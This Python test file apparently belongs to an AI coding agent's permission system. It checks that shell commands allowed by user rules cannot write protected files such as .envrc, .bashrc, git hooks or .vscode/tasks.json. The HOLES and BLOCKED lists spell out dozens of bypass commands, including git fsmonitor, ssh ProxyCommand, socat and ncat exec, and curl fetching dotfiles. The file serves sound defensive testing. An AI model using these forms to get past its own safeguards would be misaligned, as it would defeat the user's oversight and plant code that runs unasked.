"""An attacker who has read `_shell_syntax` and `_protected` tries to write a protected path under
an allow rule (docs/tools.md, "Protected paths").

Two rules: a user's allow rule for the commands used (`commandPrefix`), and a user's rule that
allows every shell command (no `commandPrefix`: the protected-path check is then all that stands
between the model and `.envrc`). HOLES are the forms that got through before this round, each
fixed; BLOCKED are the forms tried that the check already caught (kept, so they stay caught).
Each e2e case checks in the real bash that the form does write its victim.
"""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from tests.security.test_input_writers import _run_bash
from unified.tools import Decision, Policy, ToolCall, ToolRuntime, _protected
from unified.tools import _shell_syntax as syntax

SHELL = "run_shell_command"
PREFIXES = [
    "cp", "echo", "cat", "uniq", "xxd", "script", "parallel", "rename", "exec", "true", ":", "sed",
    "tee", "touch", "ls", "env", "command", "nice", "timeout", "nohup", "mkdir", "chmod", "cd", "bash",
    "split", "sort", "ssh", "curl", "wget", "scp", "rsync", "git", "tar", "zip", "pushd", "popd",
    "pre-commit", "husky", "crontab", "at", "less", "sponge", "socat", "ncat",
]  # fmt: skip
BY_PREFIX = (
    f'[[rule]]\nname = "user-prefixes"\ntoolName = "run_shell_command"\ncommandPrefix = {PREFIXES!r}\n'.replace(
        "'", '"'
    )
    + 'decision = "allow"\n'
)
EVERY_COMMAND = '[[rule]]\nname = "user-shell"\ntoolName = "run_shell_command"\ndecision = "allow"\n'

PUSHD = "pushd /tmp >/dev/null; DIRSTACK[1]=$OLDPWD/.vscode; popd >/dev/null; cp evil tasks.json"
PLAIN_REPO = "git init -q --bare x && git -C x config core.fsmonitor 'touch .envrc; false'"
"""A repository that is a directory of plain files (`x/config`, no protected name) the model wrote."""
TAR_OPTIONS = "export TAR_OPTIONS='--checkpoint=1 --checkpoint-action=exec=touch\\ .envrc'; tar -cf x.tar src"
SUFFIX = "export SIMPLE_BACKUP_SUFFIX=rc; cp -b x .bash"

HOLES: list[tuple[str, str, str, str | None, str | None]] = [
    # (case, rule, command, setup for the e2e run, victim)
    ("glob-into-uniq", BY_PREFIX, "uniq evil .en?rc", "echo pwned > evil && echo old > .envrc", ".envrc"),
    ("variable-into-xxd", BY_PREFIX, 'xxd -r dump "$F"', None, None),
    ("script-typescript", BY_PREFIX, "script -q -c true .envrc", None, ".envrc"),
    ("parallel-arguments", BY_PREFIX, "parallel cp evil ::: .envrc", None, None),
    ("rename-expression", BY_PREFIX, "rename 's/^/./' envrc", None, None),
    ("cp-backup-suffix", BY_PREFIX, "cp -b -S rc evil .bash", "echo old > .bash && echo new > evil", ".bashrc"),
    ("sed-backup-suffix", BY_PREFIX, "sed -irc -e '' .bash", "echo pwned > .bash", ".bashrc"),
    ("sed-backup-star", BY_PREFIX, "sed -i'*rc' -e '' .bash", "echo pwned > .bash", ".bashrc"),
    ("attached-target", BY_PREFIX, "cp -vt.git/hooks evil", "mkdir -p .git/hooks && echo x > evil", ".git/hooks/evil"),
    ("bare-redirection", EVERY_COMMAND, "> .envrc", None, ".envrc"),
    ("bare-fd-redirection", EVERY_COMMAND, "2> .envrc", None, ".envrc"),
    ("function-redirection", EVERY_COMMAND, "f() { echo pwned; } > .envrc; f", None, ".envrc"),
    ("eval-generated", EVERY_COMMAND, "eval \"$(printf 'echo pwned > .e%src' nv)\"", None, ".envrc"),
    ("variable-command", EVERY_COMMAND, "C=touch; $C .envrc", None, None),
    ("bash-c-variable", EVERY_COMMAND, 'X="touch .envrc"; bash -c "$X"', None, ".envrc"),
    ("alias", EVERY_COMMAND, "shopt -s expand_aliases\nalias x='touch .envrc'\nx", None, ".envrc"),
    ("read-write-unparsed", EVERY_COMMAND, "echo pwned 1<> .envrc", None, ".envrc"),
    ("git-dir-variable", EVERY_COMMAND, "GIT_DIR=/tmp/elsewhere git status", None, None),
    ("heredoc-then-redirection", BY_PREFIX, "cat <<EOF > .envrc\npwned\nEOF", None, ".envrc"),
    ("dirstack-then-popd", EVERY_COMMAND, PUSHD, "mkdir .vscode && echo pwned > evil", ".vscode/tasks.json"),
    ("split-filter", BY_PREFIX, "split --filter='touch .envrc' in", "echo x > in", ".envrc"),
    ("sort-compress-program", BY_PREFIX, "sort --compress-program=./evil big", None, None),
    ("ssh-proxy-command", BY_PREFIX, "ssh -o 'ProxyCommand=touch .envrc' host", None, None),
    ("zip-test-command", BY_PREFIX, "zip -q -T -TT 'touch .envrc' x.zip f", "echo x > f", ".envrc"),
    ("curl-url-fragment", BY_PREFIX, "curl -O 'https://example.invalid/.bashrc#x'", None, None),
    ("curl-url-encoded", BY_PREFIX, "curl -O 'https://example.invalid/%2ebashrc'", None, None),
    ("curl-output-template", BY_PREFIX, "curl -o '#1' 'https://example.invalid/{.envrc}'", None, None),
    ("wget-url-query", BY_PREFIX, "wget 'https://example.invalid/.envrc?x=1'", None, None),
    ("scp-remote-name", BY_PREFIX, "scp host:.bashrc .", None, None),
    ("rsync-remote-name", BY_PREFIX, "rsync host:.bashrc .", None, None),
    ("git-dir-of-plain-files", BY_PREFIX, "git --git-dir=x --work-tree=. status", PLAIN_REPO, ".envrc"),
    ("git-bare-cwd", BY_PREFIX, "git --bare log", None, None),
    ("tar-options-variable", EVERY_COMMAND, TAR_OPTIONS, "mkdir src", ".envrc"),
    ("backup-suffix-variable", EVERY_COMMAND, SUFFIX, "echo old > .bash && echo new > x", ".bashrc"),
    ("git-separate-git-dir", BY_PREFIX, "git init -q --separate-git-dir=../elsewhere", None, None),
    ("pre-commit-install", BY_PREFIX, "pre-commit install", None, None),
    ("husky-install", BY_PREFIX, "husky install", None, None),
    ("crontab-install", BY_PREFIX, "crontab jobs.txt", None, None),
    ("at-schedules", BY_PREFIX, "at now + 1 minute < job.sh", None, None),
    ("less-log-file", BY_PREFIX, 'echo x | less -o "$F"', None, None),
    ("sponge-variable", BY_PREFIX, 'echo x | sponge "$F"', None, None),
    ("socat-exec", BY_PREFIX, "socat - EXEC:'touch .envrc'", None, None),
    ("ncat-sh-exec", BY_PREFIX, "ncat -l 9 --sh-exec 'touch .envrc'", None, None),
    ("heredoc-then-two-redirections", EVERY_COMMAND, "cat <<'EOF' > x > .envrc\npwned\nEOF", None, ".envrc"),
]
"""Each of these wrote (or may write) a protected path unasked before this round."""

BLOCKED = [
    "cp evil $'.git/hooks/pre-commit'",
    "cp evil $'\\x2egit/hooks/pre-commit'",
    "cp evil $'\\u002eenvrc'",
    'cp evil ".git"/hooks/x',
    "cp evil .g\\it/config",
    'cp evil $".envrc"',
    "cp evil .e$''nvrc",
    "cp evil .en\\\nvrc",
    "cp evil .env$((0))rc",
    "cp evil .en?rc",
    "cp evil .{envrc,x}",
    "cp evil ~/.bashrc",
    "cp evil${IFS}.envrc",
    "cp evil `echo .envrc`",
    "cp evil .envrc`true`",
    "cp evil .GIT/Config",
    "cp evil ../ws/.envrc",
    "cp evil sub/../.envrc",
    "echo x > .envrc",
    "echo x >| .envrc",
    "echo x &> .envrc",
    "echo x &>> .envrc",
    "echo x >& .envrc",
    "echo x 3> .envrc",
    "exec 3> .envrc",
    "exec > .envrc",
    "echo x > >(tee .envrc)",
    "echo x | tee >(cat > .envrc)",
    "(echo x) > .envrc",
    "{ echo x; } > .envrc",
    "for i in 1; do echo; done > .envrc",
    'echo x > "$(printf .envrc)"',
    "cat > .envrc <<EOF\nx\nEOF",
    "eval 'cp evil .envrc'",
    "bash -c 'cp evil .envrc'",
    "bash <<'EOF'\ncp evil .envrc\nEOF",
    "env cp evil .envrc",
    "command cp evil .envrc",
    "builtin echo x > .envrc",
    "nice -n 5 cp evil .envrc",
    "timeout 5 cp evil .envrc",
    "nohup cp evil .envrc",
    "chmod +x .git/hooks/*",
    "mkdir -p .git/hooks",
    "cd .g''it/hooks && cp evil pre-commit",
    "cd -- .vscode && cp evil tasks.json",
    "d=.git; cd $d",
    "cd lnk && cp evil pre-commit",
    "cp evil lnk/pre-commit",
    "alias x='cp evil .envrc'; x",
]
"""Tried and already caught, under the prefix rule and under the rule for every command."""

FINE = [
    "crontab -l",
    "pre-commit run --all-files",
    "echo hi",
    "cp src/a src/b",
    "ls -la",
    "cat src/a | uniq",
    "sed -n 1p src/a",
    "cat <<EOF\nhi\nEOF",
]
"""Still allowed under both rules."""


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / "src").mkdir()
    (root / "src" / "a").write_text("a\n")
    (root / "lnk").symlink_to(root / ".git" / "hooks")
    return root


def _allowed(ws: Path, rule: str, command: str) -> bool:
    verdict = Policy.default().with_toml(rule).evaluate(SHELL, {"command": command}, "default")
    if verdict.decision is not Decision.ALLOW:
        return False
    return _protected.shell_protected(syntax.parse(command), ws, (ws,)) is None


@pytest.mark.parametrize(("case", "rule", "command", "setup", "victim"), HOLES, ids=[h[0] for h in HOLES])
def test_a_hole_found_is_closed(
    ws: Path, case: str, rule: str, command: str, setup: str | None, victim: str | None
) -> None:
    assert not _allowed(ws, rule, command)


@pytest.mark.parametrize("rule", [BY_PREFIX, EVERY_COMMAND], ids=["prefix", "every-command"])
@pytest.mark.parametrize("command", BLOCKED)
def test_an_attack_already_blocked_stays_blocked(ws: Path, rule: str, command: str) -> None:
    assert not _allowed(ws, rule, command)


@pytest.mark.parametrize("rule", [BY_PREFIX, EVERY_COMMAND], ids=["prefix", "every-command"])
@pytest.mark.parametrize("command", FINE)
def test_plain_commands_still_run_unasked(ws: Path, rule: str, command: str) -> None:
    assert _allowed(ws, rule, command)


@pytest.mark.anyio
async def test_the_rule_for_every_command_still_asks_through_the_runtime(ws: Path) -> None:
    policy = Policy.default().with_toml(EVERY_COMMAND)
    calls = [ToolCall(str(i), SHELL, {"command": h[2]}) for i, h in enumerate(HOLES) if h[1] is EVERY_COMMAND]
    async with ToolRuntime(ws, approval_mode="default", policy=policy) as tools:
        outcomes = await tools.run_batch(calls)
    assert [o.decision.rule if o.decision else None for o in outcomes] == ["protected-paths"] * len(calls)
    assert not (ws / ".envrc").exists()


@pytest.mark.parametrize(
    ("command", "allowed"),
    [
        ("./tar -tf a.tar", False),
        ("sub/tar -tf a.tar", False),
        ("/tmp/tar -tf a.tar", False),
        ("/usr/bin/../../tmp/tar -tf a.tar", False),
        ("./env tar -tf a.tar", False),
        ("./nice -n 1 tar -tf a.tar", False),
        ("tar -tf a.tar", True),
        ("/usr/bin/tar -tf a.tar", True),
        ("/usr/bin/env tar -tf a.tar", True),
        ("./scripts/check.sh", True),
        ("/tmp/scripts/check.sh", False),
    ],
)
def test_an_allow_rule_names_a_program_not_any_file_of_its_name(command: str, allowed: bool) -> None:
    """`cp /bin/sh tar; ./tar -tf a.tar` runs a.tar as a script: an allow rule for `tar` covers the
    `tar` found through PATH or in a system directory, and a rule naming a path that path only."""
    rule = (
        '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = ["tar", "./scripts/check.sh"]\ndecision = "allow"\n'
    )
    verdict = Policy.default().with_toml(rule).evaluate(SHELL, {"command": command}, "default")
    assert (verdict.decision is Decision.ALLOW) is allowed


@pytest.mark.e2e  # runs the real bash
def test_differential_a_copy_of_bash_named_tar_runs_its_archive(tmp_path: Path) -> None:
    (tmp_path / "a.tar").write_text("touch pwned\n")
    _run_bash('cp "$(command -v bash)" tar && ./tar -tf a.tar', tmp_path)
    assert (tmp_path / "pwned").exists()


@pytest.mark.e2e  # runs the real git
def test_differential_separate_git_dir_replaces_dot_git_with_a_pointer(tmp_path: Path) -> None:
    """Hooks then live in `../elsewhere/hooks`, a path with no protected name."""
    (tmp_path / "ws").mkdir()
    _run_bash("git init -q . && git init -q --separate-git-dir=../elsewhere", tmp_path / "ws")
    assert (tmp_path / "ws" / ".git").read_text().startswith("gitdir:")


@pytest.mark.anyio
async def test_a_command_run_inside_a_protected_directory_is_asked(ws: Path) -> None:
    """`dir_path` into `.git/hooks` or `.vscode` is `cd` there: a file made without a name given
    (`nohup.out`, the name of a URL) is a protected path."""
    policy = Policy.default().with_toml(BY_PREFIX)
    (ws / ".vscode").mkdir()
    async with ToolRuntime(ws, approval_mode="auto_edit", policy=policy) as tools:
        calls = [
            ToolCall("1", SHELL, {"command": "nohup true", "dir_path": ".git/hooks"}),
            ToolCall("2", SHELL, {"command": "true", "dir_path": ".vscode"}),
            ToolCall("3", SHELL, {"command": "true", "dir_path": "lnk"}),
        ]
        outcomes = await tools.run_batch(calls)
    assert [o.decision.rule if o.decision else None for o in outcomes] == ["protected-paths"] * 3


@pytest.mark.parametrize("command", ["RM -rf victim", "Rm -rf victim", "/BIN/RM -rf victim", "ENV rm -rf victim"])
def test_a_deny_rule_matches_the_command_word_in_any_case(command: str) -> None:
    """On a case-insensitive file system (macOS's default) `RM` runs `rm` and `ENV` runs `env`."""
    deny = '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "rm"\ndecision = "deny"\n'
    verdict = Policy.default().with_toml(deny).evaluate(SHELL, {"command": command}, "yolo")
    assert verdict.decision is Decision.DENY


def test_an_include_directory_inside_a_protected_one_does_not_unprotect_it(tmp_path: Path) -> None:
    """A path is judged relative to every root holding it: with `.vscode` included as a root of its
    own, `tasks.json` in it is still `.vscode/tasks.json` of the workspace."""
    ws = tmp_path / "ws"
    assert _protected.protected_path(ws / ".vscode" / "tasks.json") == ".vscode/tasks.json"
    assert _protected.protected_path(ws / ".git" / "hooks" / "pre-commit") == ".git/**"
    reason = _protected.shell_protected(syntax.parse("cp evil tasks.json"), ws / ".vscode", (ws, ws / ".vscode"))
    assert reason is not None


def test_a_bare_redirection_and_a_function_redirection_are_writes() -> None:
    """`> f` runs no command but creates f; `f() {..} > g` writes g each time f runs."""
    assert [p.writes for p in syntax.parse("> .envrc")] == [(".envrc",)]
    assert syntax.parse("f() { echo x; } > out; f")[0].writes == ("out",)
    assert syntax.parse("2>&1") == ()


def test_a_redirection_after_a_heredoc_is_a_write_and_its_stdin() -> None:
    """tree-sitter-bash nests `> f` written after `<<EOF` inside the heredoc node: it is still a
    write (an allow rule for `cat` does not cover `cat <<EOF > notes.txt`), and `< x.sh` after it
    is what bash reads (not the heredoc: a deny rule cannot see that script)."""
    assert syntax.parse("cat <<EOF > notes.txt\nx\nEOF")[0].writes == ("notes.txt",)
    allow_cat = '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "cat"\ndecision = "allow"\n'
    verdict = Policy.default().with_toml(allow_cat).evaluate(SHELL, {"command": "cat <<EOF > n.txt\nx\nEOF"}, "default")
    assert verdict.decision is Decision.ASK_USER
    deny_touch = '[[rule]]\ntoolName = "run_shell_command"\ncommandPrefix = "touch"\ndecision = "deny"\n'
    hidden = "bash <<'EOF' < x.sh\nls\nEOF"
    assert Policy.default().with_toml(deny_touch).evaluate(SHELL, {"command": hidden}, "yolo").decision is not (
        Decision.ALLOW
    )


@pytest.mark.e2e  # runs the real bash
def test_differential_a_heredoc_then_a_file_on_stdin_runs_the_file(tmp_path: Path) -> None:
    (tmp_path / "x.sh").write_text("touch pwned\n")
    _run_bash("bash <<'EOF' < x.sh\nls\nEOF", tmp_path)
    assert (tmp_path / "pwned").exists()


@pytest.mark.e2e  # runs the real bash and the real tools
def test_differential_each_hole_writes_its_victim_in_bash(tmp_path: Path) -> None:
    wrote: list[str] = []
    expected: list[str] = []
    for index, (case, _rule, command, setup, victim) in enumerate(HOLES):
        if victim is None:
            continue
        parts = syntax.parse(command)
        tool = parts[0].name if parts else None
        if tool is not None and shutil.which(tool) is None:
            continue
        expected.append(case)
        root = tmp_path / str(index)
        root.mkdir()
        if setup is not None:
            _run_bash(setup, root)
        before = (root / victim).read_bytes() if (root / victim).exists() else None
        _run_bash(command, root)
        if (root / victim).exists() and (root / victim).read_bytes() != before:
            wrote.append(case)
    assert wrote == expected
